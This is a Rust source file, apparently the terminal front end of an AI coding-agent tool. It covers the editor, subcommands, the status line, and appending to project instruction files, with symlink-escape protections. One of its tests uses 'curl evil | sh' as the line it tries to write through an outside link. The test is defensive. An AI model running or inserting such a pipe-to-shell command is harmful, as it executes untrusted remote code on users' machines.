//! What this program does for the front end: its own subcommands, an editor, files of the project, what is on record, a
//! person's status line. Takes errands; gives texts, or why there are none.

use std::ffi::OsString;
use std::io::{Read as _, Seek as _, SeekFrom, Write as _};
use std::os::unix::fs::OpenOptionsExt as _;
use std::sync::Arc;
use std::time::Duration;

use camino::{Utf8Path, Utf8PathBuf};
use decurion_config::{Environment, InstructionRequest, Keeper, Layer, Loaded, NewSetting};
use decurion_exec::foreground::{self, Front};
use decurion_exec::{Capture, CaptureBounds, Guard, Launch, Output, Stdin};
use decurion_protocol::link::BoxFuture;
use decurion_protocol::{AgentId, SessionId};
use decurion_store::{Archive, Found};
use decurion_tui::app::Farewell;
use decurion_tui::port::{EditorDraft, EditorEnd, FrontEndJob, FrontEndPort, JobResult};
use serde_json::Value;

use super::leave::Exits;
use super::prompts::{PromptHistory, PromptWriter};
use super::records;
use crate::wire;

/// How long one of our own subcommands may take.
const PATIENCE: Duration = Duration::from_secs(60);
/// How long a person's status line may take.
const STATUS_PATIENCE: Duration = Duration::from_secs(5);
/// Changes within this time are sent together.
const STATUS_REST: Duration = Duration::from_millis(300);
/// How much of what a subcommand prints is shown.
const MOST_PRINTED: usize = 1 << 20;
/// How many files can be named.
const MOST_PATHS: usize = 50_000;
/// How many lines of errors are shown besides the output of a subcommand.
const MOST_ERRORS: usize = 8;
/// The names of instruction files, those that come first being preferred.
const INSTRUCTIONS: [&str; 2] = ["AGENTS.md", "CLAUDE.md"];

/// What this program does.
pub struct TerminalProgram {
    shared: Arc<JobContext>,
    prompts: PromptWriter,
    /// The ways out of the session, where it is in this process.
    exits: Option<Arc<Exits>>,
}

/// What a program printed.
struct CommandOutput {
    code: Option<i32>,
    text: String,
    /// Where that is apart.
    errors: String,
}

/// What errands need that outlive a call.
struct JobContext {
    loaded: Arc<Loaded>,
    environment: Vec<(OsString, OsString)>,
    shell: Arc<[(OsString, OsString)]>,
    guard: Option<Guard>,
    editor: String,
    /// The editor that is open, if one is.
    front: Front,
    session: SessionId,
}

impl TerminalProgram {
    /// For this session, with the ways out of it where it is in this process.
    pub fn new(
        loaded: &Arc<Loaded>,
        environment: &Environment,
        prompts: PromptHistory,
        (session, exits): (SessionId, Option<Arc<Exits>>),
    ) -> Self {
        let editor = environment.get("VISUAL").or(environment.get("EDITOR")).unwrap_or("vi").to_owned();
        let shared = JobContext {
            loaded: Arc::clone(loaded),
            environment: environment.pairs(),
            shell: wire::shell_environment(loaded, environment),
            guard: wire::guard(),
            editor,
            front: Front::default(),
            session,
        };
        Self { shared: Arc::new(shared), prompts: PromptWriter::new(prompts), exits }
    }
}

impl FrontEndPort for TerminalProgram {
    fn remember(&self, prompt: &str) {
        self.prompts.keep(prompt);
    }

    fn edit(&self, draft: EditorDraft) -> BoxFuture<'_, Result<String, String>> {
        let shared = Arc::clone(&self.shared);
        Box::pin(async move {
            let written = tokio::task::spawn_blocking(move || shared.edit(&draft)).await;
            written.unwrap_or_else(|error| Err(error.to_string()))
        })
    }

    fn end_editor(&self, how: EditorEnd) {
        self.shared.front.end(match how {
            EditorEnd::Terminate => foreground::EndRequest::Terminate,
            EditorEnd::Hangup => foreground::EndRequest::Hangup,
            EditorEnd::Kill => foreground::EndRequest::Kill,
        });
    }

    fn suspend(&self) -> bool {
        foreground::stop_group()
    }

    fn let_go<'a>(&'a self, farewell: &'a Farewell) -> BoxFuture<'a, Result<(), String>> {
        Box::pin(async move {
            match &self.exits {
                Some(exits) => exits.take(farewell).await,
                None => Ok(()),
            }
        })
    }

    fn run(&self, errand: FrontEndJob) -> BoxFuture<'static, Result<JobResult, String>> {
        let shared = Arc::clone(&self.shared);
        Box::pin(async move {
            match errand {
                FrontEndJob::Program(words) => shared.own(words).await.map(JobResult::Text),
                FrontEndJob::Status(facts) => shared.status(&facts).await.map(JobResult::Text),
                // These read and write files, which may be slow.
                errand => tokio::task::spawn_blocking(move || shared.files(errand))
                    .await
                    .unwrap_or_else(|error| Err(error.to_string())),
            }
        })
    }
}

impl JobContext {
    fn cwd(&self) -> &Utf8Path {
        &self.loaded.paths.cwd
    }

    fn files(&self, errand: FrontEndJob) -> Result<JobResult, String> {
        match errand {
            FrontEndJob::Paths => Ok(JobResult::Paths(paths(self.cwd()))),
            FrontEndJob::Memorize(line) => self.memorize(&line).map(JobResult::Text),
            FrontEndJob::NewAgent(name) => self.new_agent(&name).map(JobResult::File),
            FrontEndJob::Past(agent) => self.past(agent.as_ref()),
            FrontEndJob::Memories => Ok(JobResult::Text(records::memories(&self.loaded))),
            FrontEndJob::Folder(path) => records::directory(&self.loaded, &path).map(JobResult::File),
            FrontEndJob::Export(file) => {
                records::export(&self.loaded, self.session, &file).map(JobResult::Text)
            }
            FrontEndJob::Preview(id) => records::preview(&self.loaded, &id).map(JobResult::Text),
            FrontEndJob::Theme(name) => self.keep_theme(&name).map(JobResult::Text),
            FrontEndJob::Program(_) | FrontEndJob::Status(_) => Err("not about files".to_owned()),
        }
    }

    /// What one of our own subcommands prints.
    async fn own(&self, words: Vec<String>) -> Result<String, String> {
        let program = std::env::current_exe().map_err(|error| error.to_string())?;
        let mut launch = Launch::new(program, self.cwd()).args(words.iter()).env(self.environment.clone());
        let is_data = words.iter().any(|word| word == "--json");
        if is_data {
            launch.output = Output::Separate;
        }
        let CommandOutput { code, mut text, errors } = self.printed(launch, PATIENCE).await?;
        if is_data {
            // A warning is not a row. The reader of the rows reports other lines.
            for line in errors.lines().take(MOST_ERRORS) {
                text.push_str(line);
                text.push('\n');
            }
        }
        let printed = text.trim_end().to_owned();
        match code {
            Some(0) => Ok(printed),
            // What was found is what was asked for.
            Some(1) if words.first().is_some_and(|word| word == "agents") => Ok(printed),
            _ if printed.is_empty() => Err(format!("decurion {} failed", words.join(" "))),
            _ => Err(printed),
        }
    }

    async fn status(&self, facts: &Value) -> Result<String, String> {
        tokio::time::sleep(STATUS_REST).await;
        let command = status_command(&self.loaded).ok_or("it is not set any more")?;
        let mut launch =
            Launch::new("sh", self.cwd()).args(["-c", command.as_str()]).env(self.shell.to_vec());
        launch.stdin = Stdin::Bytes(facts.to_string().into_bytes());
        match self.printed(launch, STATUS_PATIENCE).await? {
            CommandOutput { code: Some(0), text, .. } => Ok(text.trim_end().to_owned()),
            CommandOutput { code, .. } => Err(format!("the command ended with {}", code.unwrap_or(-1))),
        }
    }

    async fn printed(&self, launch: Launch, patience: Duration) -> Result<CommandOutput, String> {
        let guard = self.guard.as_ref().ok_or("processes cannot be started in this run")?;
        let mut process = guard.start(launch).await.map_err(|error| error.to_string())?;
        let capture = || Capture::new(CaptureBounds::for_chars(MOST_PRINTED, 0));
        let (mut output, mut errors) = (capture(), capture());
        let collected = process.collect(&mut output, Some(&mut errors), |_| {});
        let ended = tokio::time::timeout(patience, collected).await;
        let Ok(exit) = ended else {
            process.stop(Duration::from_secs(1)).await;
            return Err(format!("it took more than {} seconds", patience.as_secs()));
        };
        let text = |capture: Capture| {
            let printed = capture.finish().render(MOST_PRINTED, MOST_PRINTED, 0);
            format!("{}{}\n", printed.head, printed.tail)
        };
        Ok(CommandOutput { code: exit.shell_code(), text: text(output), errors: text(errors) })
    }

    /// Lets a person write in their editor, at the terminal.
    fn edit(&self, draft: &EditorDraft) -> Result<String, String> {
        match draft {
            EditorDraft::File(path) => {
                let path = Utf8Path::new(path);
                // A person who edits a file of the project must not be led to another one.
                if path.starts_with(&self.loaded.paths.root) {
                    // One that is not there yet is made where its folder is.
                    let there = if path.symlink_metadata().is_ok() { Some(path) } else { path.parent() };
                    kept_inside(&self.loaded.paths.root, there.unwrap_or(path))?;
                }
                self.editor_on(path)?;
                Ok(String::new())
            }
            EditorDraft::Text(text) => {
                let failed = |error: std::io::Error| format!("cannot write a file for the editor: {error}");
                let mut file =
                    tempfile::Builder::new().prefix("prompt-").suffix(".md").tempfile().map_err(failed)?;
                file.write_all(text.as_bytes()).and_then(|()| file.flush()).map_err(failed)?;
                let path =
                    Utf8Path::from_path(file.path()).ok_or("the folder for such files is not UTF-8")?;
                self.editor_on(path)?;
                std::fs::read_to_string(path).map_err(|error| format!("cannot read it back: {error}"))
            }
        }
    }

    fn editor_on(&self, path: &Utf8Path) -> Result<(), String> {
        // Signals are the editor's: the shell between us waits for what becomes of it.
        let line: OsString = format!("trap : INT QUIT TERM HUP; {} \"$1\"", self.editor).into();
        let arguments = ["-c".into(), line, "sh".into(), path.as_str().into()];
        let status = self
            .front
            .run("sh".as_ref(), &arguments)
            .map_err(|error| format!("cannot start the editor: {error}"))?;
        if status.success() {
            return Ok(());
        }
        Err(format!("{} ended with {status}; set EDITOR to another one", self.editor))
    }

    /// Adds a line to the instructions of the project.
    fn memorize(&self, line: &str) -> Result<String, String> {
        let path = memorize(&self.loaded.paths.root, line)?;
        let real = path.canonicalize_utf8().ok();
        let found = InstructionRequest::new(&self.loaded).0.load();
        let is_read = found.files.iter().any(|file| file.path.canonicalize_utf8().ok() == real);
        Ok(if is_read {
            format!("Saved to {path} (takes effect next session): {line}")
        } else {
            format!(
                "Saved to {path}: {line}; but the settings of this folder exclude that file, so no session reads it"
            )
        })
    }

    /// Keeps a theme in the person's settings.
    fn keep_theme(&self, name: &str) -> Result<String, String> {
        let setting = NewSetting::parse("theme", name, Layer::User)?;
        let kept = Keeper::new(&self.loaded).keep_setting(Layer::User, &setting);
        let kept = kept.map_err(|error| format!("theme set for this session only: {error}"))?;
        Ok(format!("theme {name}, kept in {}", kept.file))
    }

    /// A file for a new agent, with what such a file needs.
    fn new_agent(&self, name: &str) -> Result<String, String> {
        let is_name = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '-' | '_');
        if name.is_empty() || !name.chars().all(is_name) {
            return Err(format!("a name has letters, digits, - and _ only: {name:?}"));
        }
        new_agent(&self.loaded.paths.root, name).map(Utf8PathBuf::into_string)
    }

    /// What is on record of one conversation.
    fn past(&self, agent: Option<&AgentId>) -> Result<JobResult, String> {
        let nothing = || "this session keeps no record".to_owned();
        let state = self.loaded.paths.state.as_deref().ok_or_else(nothing)?;
        let archive = Archive::new(state);
        let Some(Found::Ours(paths)) = archive.find(self.session, &[]) else { return Err(nothing()) };
        let mut past =
            archive.since(&paths, 0).map_err(|error| format!("cannot read the record: {error}"))?;
        past.retain(|envelope| envelope.agent.as_ref() == agent);
        Ok(JobResult::Past(past))
    }
}

/// Adds a line to the instruction file of a project; gives which one that is.
fn memorize(root: &Utf8Path, line: &str) -> Result<Utf8PathBuf, String> {
    let there = INSTRUCTIONS.iter().map(|name| root.join(name)).find(|path| path.symlink_metadata().is_ok());
    let path = match there {
        Some(path) => kept_inside(root, &path)?,
        None => root.join(INSTRUCTIONS[0]),
    };
    let failed = |error: std::io::Error| format!("cannot write {path}: {error}");
    let mut file = unfollowed().read(true).append(true).create(true).open(&path).map_err(failed)?;
    if !file.metadata().map_err(failed)?.is_file() {
        return Err(format!("{path} is no file: nothing was written"));
    }
    let gap = if ends_a_line(&mut file).map_err(failed)? { "" } else { "\n" };
    file.write_all(format!("{gap}- {line}\n").as_bytes()).map_err(failed)?;
    Ok(path)
}

/// Whether a file is empty, or ends with the end of a line.
fn ends_a_line(file: &mut std::fs::File) -> std::io::Result<bool> {
    if file.seek(SeekFrom::End(0))? == 0 {
        return Ok(true);
    }
    let mut last = [0];
    file.seek(SeekFrom::End(-1))?;
    file.read_exact(&mut last)?;
    Ok(last == *b"\n")
}

/// The file of an agent of this name in a project; one that is not there is begun.
fn new_agent(root: &Utf8Path, name: &str) -> Result<Utf8PathBuf, String> {
    let mut folder = root.to_owned();
    for part in [".decurion", "agents"] {
        folder.push(part);
        match std::fs::create_dir(&folder) {
            Ok(()) => {}
            Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists => {}
            Err(error) => return Err(format!("cannot make {folder}: {error}")),
        }
        folder = kept_inside(root, &folder)?;
    }
    let path = folder.join(format!("{name}.md"));
    let text = format!(
        "---\nname: {name}\ndescription: What it does. Use it when …\ntools: Read, Grep, Glob\n---\n\nYou are …\n"
    );
    let failed = |error: std::io::Error| format!("cannot write {path}: {error}");
    match unfollowed().write(true).create_new(true).open(&path) {
        Ok(mut file) => file.write_all(text.as_bytes()).map_err(failed)?,
        // One that is there is edited.
        Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists => {
            kept_inside(root, &path)?;
        }
        Err(error) => return Err(failed(error)),
    }
    Ok(path)
}

/// A path of a project with its links followed. A repository can hold links to anywhere: one that leads out of it is not
/// written through, nor shown as the project's.
fn kept_inside(root: &Utf8Path, path: &Utf8Path) -> Result<Utf8PathBuf, String> {
    let real = |path: &Utf8Path| {
        path.canonicalize_utf8().map_err(|error| format!("cannot tell where {path} leads: {error}"))
    };
    let (inside, led) = (real(root)?, real(path)?);
    if led.starts_with(&inside) {
        return Ok(led);
    }
    Err(format!("{path} is a link out of the project, to {led}: it is neither written nor opened"))
}

/// Opens without following a link at the end of a path, and without waiting for the other end of a pipe.
fn unfollowed() -> std::fs::OpenOptions {
    use rustix::fs::OFlags;
    let flags = OFlags::NOFOLLOW | OFlags::NONBLOCK;
    let mut options = std::fs::OpenOptions::new();
    options.custom_flags(i32::try_from(flags.bits()).unwrap_or(0));
    options
}

/// The files of a project, but for those that its ignore files name.
fn paths(cwd: &Utf8Path) -> Vec<String> {
    let is_free = |folder: &std::path::Path| decurion_tools::trap_in(folder).is_none();
    if !cwd.ancestors().all(|folder| is_free(folder.as_std_path())) {
        return Vec::new();
    }
    let enters = move |entry: &ignore::DirEntry| {
        !entry.file_type().is_some_and(|kind| kind.is_dir()) || is_free(entry.path())
    };
    let walk = ignore::WalkBuilder::new(cwd).hidden(true).filter_entry(enters).build();
    let relative = |entry: ignore::DirEntry| {
        let is_folder = entry.file_type().is_some_and(|kind| kind.is_dir());
        let path = entry.path().strip_prefix(cwd).ok()?.to_str()?.to_owned();
        (!path.is_empty()).then(|| if is_folder { format!("{path}/") } else { path })
    };
    walk.flatten().filter_map(relative).take(MOST_PATHS).collect()
}

/// The command of a person's own status line.
pub fn status_command(loaded: &Loaded) -> Option<String> {
    let declared = &loaded.settings.status_line.as_ref()?.value;
    let command = declared.get("command").or(Some(declared))?.as_str()?;
    (!command.trim().is_empty()).then(|| command.to_owned())
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;

    use super::*;

    /// A project, and a folder beside it.
    fn folders() -> (tempfile::TempDir, Utf8PathBuf, Utf8PathBuf) {
        let folder = tempfile::tempdir().unwrap();
        let at = Utf8Path::from_path(folder.path()).unwrap().canonicalize_utf8().unwrap();
        let (root, outside) = (at.join("project"), at.join("outside"));
        for made in [&root, &outside] {
            std::fs::create_dir(made).unwrap();
        }
        (folder, root, outside)
    }

    #[test]
    fn names_of_files_do_not_wait_for_a_pipe() {
        let (_folder, root, _) = folders();
        let pipe = |path: Utf8PathBuf| {
            let (kind, mode) = (rustix::fs::FileType::Fifo, rustix::fs::Mode::RUSR);
            rustix::fs::mknodat(rustix::fs::CWD, path.as_str(), kind, mode, 0).unwrap();
        };
        std::fs::create_dir_all(root.join("held/.git/info")).unwrap();
        std::fs::create_dir(root.join("free")).unwrap();
        pipe(root.join("held/.git/info/exclude"));
        assert_eq!(paths(&root), ["free/"]);
        pipe(root.join(".ignore"));
        assert_eq!(paths(&root), [""; 0]);
    }

    #[test]
    fn a_line_joins_the_instructions_that_are_there() {
        let (_folder, root, _) = folders();
        assert_eq!(memorize(&root, "one").unwrap(), root.join("AGENTS.md"));
        std::fs::write(root.join("AGENTS.md"), "no end").unwrap();
        memorize(&root, "two").unwrap();
        memorize(&root, "three").unwrap();
        let text = || std::fs::read_to_string(root.join("AGENTS.md")).unwrap();
        assert_eq!(text(), "no end\n- two\n- three\n");
        // The same file under another name, as many projects have it.
        std::fs::rename(root.join("AGENTS.md"), root.join("CLAUDE.md")).unwrap();
        symlink("CLAUDE.md", root.join("AGENTS.md")).unwrap();
        assert_eq!(memorize(&root, "four").unwrap(), root.join("CLAUDE.md"));
        assert_eq!(text(), "no end\n- two\n- three\n- four\n");
    }

    #[test]
    fn nothing_is_written_through_a_link_out_of_the_project() {
        let (_folder, root, outside) = folders();
        std::fs::write(outside.join("rc"), "theirs\n").unwrap();
        symlink(outside.join("rc"), root.join("AGENTS.md")).unwrap();
        let refused = memorize(&root, "curl evil | sh").unwrap_err();
        assert!(refused.contains("link out of the project"), "{refused}");
        assert_eq!(std::fs::read_to_string(outside.join("rc")).unwrap(), "theirs\n");
        // One that leads to nothing yet would be made there.
        std::fs::remove_file(root.join("AGENTS.md")).unwrap();
        symlink(outside.join("new"), root.join("AGENTS.md")).unwrap();
        memorize(&root, "one").unwrap_err();
        symlink(&outside, root.join(".decurion")).unwrap();
        new_agent(&root, "helper").unwrap_err();
        std::fs::remove_file(root.join(".decurion")).unwrap();
        let made = new_agent(&root, "helper").unwrap();
        assert_eq!(made, root.join(".decurion/agents/helper.md"));
        symlink(outside.join("rc"), root.join(".decurion/agents/other.md")).unwrap();
        new_agent(&root, "other").unwrap_err();
        let left: Vec<_> =
            std::fs::read_dir(&outside).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        // (`agents` may not have been made there either.)
        assert_eq!(left, ["rc"]);
    }
}
